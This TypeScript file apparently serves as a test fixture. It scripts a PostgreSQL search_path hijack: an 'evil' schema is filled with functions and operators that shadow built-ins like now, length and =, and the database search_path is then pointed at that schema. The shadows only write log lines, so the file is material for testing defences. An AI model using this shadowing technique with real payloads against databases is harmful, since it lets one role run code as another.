/**
 * What an owner does in a database: functions and operators with the names and types of PostgreSQL's own, which say in the
 * log who ran them, in a schema that sessions look into first; and the one that is a better match without any such schema.
 */
export const ATTACK: readonly string[] = [
  'CREATE SCHEMA evil',
  functionsLike(`p.proname IN ('array_agg', 'clock_timestamp', 'coalesce', 'concat', 'current_database', 'current_setting',
    'date_trunc', 'format', 'greatest', 'has_function_privilege', 'host', 'isfinite', 'left', 'length', 'lower', 'lpad', 'now',
    'pg_backend_pid', 'pg_conf_load_time', 'pg_create_logical_replication_slot', 'pg_create_physical_replication_slot',
    'pg_current_wal_lsn', 'pg_database_size', 'pg_drop_replication_slot', 'pg_encoding_to_char', 'pg_get_userbyid',
    'pg_is_in_recovery', 'pg_last_wal_receive_lsn', 'pg_last_wal_replay_lsn', 'pg_last_xact_replay_timestamp',
    'pg_postmaster_start_time', 'pg_reload_conf', 'pg_sleep', 'pg_switch_wal', 'pg_terminate_backend', 'pg_wal_lsn_diff',
    'pg_walfile_name', 'shobj_description', 'substr', 'substring', 'to_char', 'to_json', 'to_jsonb', 'to_regprocedure', 'upper')`),
  functionOf('length(name)', 'integer', 'public'),
  functionOf('length(name)', 'integer', 'evil'),
  `DO $do$ DECLARE o record; n int := 0; BEGIN
    FOR o IN SELECT oprname, format_type(oprleft, NULL) AS l, format_type(oprright, NULL) AS r, format_type(oprresult, NULL) AS made
      FROM pg_catalog.pg_operator WHERE oprname IN ('=', '<>', '||', '->>', '>=', '<', '>', '-', '+', '~', '~~') AND oprkind = 'b'
        AND oprnamespace = 'pg_catalog'::regnamespace
        AND NOT EXISTS (SELECT FROM pg_type WHERE oid IN (oprleft, oprright, oprresult) AND typtype = 'p')
    LOOP
      n := n + 1;
      EXECUTE format('CREATE FUNCTION evil.op_%s(%s, %s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS %L',
        n, o.l, o.r, o.made, format('BEGIN RAISE LOG ''attacked by the operator %s as %%'', current_user; RETURN NULL; END', o.oprname));
      EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.op_%s)', o.oprname, o.l, o.r, n);
    END LOOP;
  END $do$`,
  'ALTER DATABASE theirs SET search_path = evil, public, pg_catalog',
]

function functionOf(signature: string, result: string, schema: string): string {
  return `CREATE OR REPLACE FUNCTION ${schema}.${signature} RETURNS ${result} LANGUAGE plpgsql SET search_path = pg_catalog
    AS $f$ BEGIN RAISE LOG 'attacked by ${signature} as %', current_user; RETURN NULL; END $f$`
}

function functionsLike(which: string): string {
  return `DO $do$ DECLARE f record; BEGIN
    FOR f IN SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS arguments, pg_get_function_result(p.oid) AS made
      FROM pg_catalog.pg_proc p WHERE ${which} AND p.prokind = 'f' AND NOT p.proretset
        AND p.pronamespace = 'pg_catalog'::regnamespace AND p.prorettype <> 'record'::regtype
        AND NOT p.proargtypes::oid[] && ARRAY['"any"'::regtype::oid, 'internal'::regtype::oid, 'cstring'::regtype::oid]
    LOOP
      EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS %L',
        f.proname, f.arguments, f.made, format('BEGIN RAISE LOG ''attacked by %s as %%'', current_user; %s END', f.proname,
          CASE f.made WHEN 'void' THEN '' ELSE 'RETURN NULL;' END));
    END LOOP;
  END $do$`
}
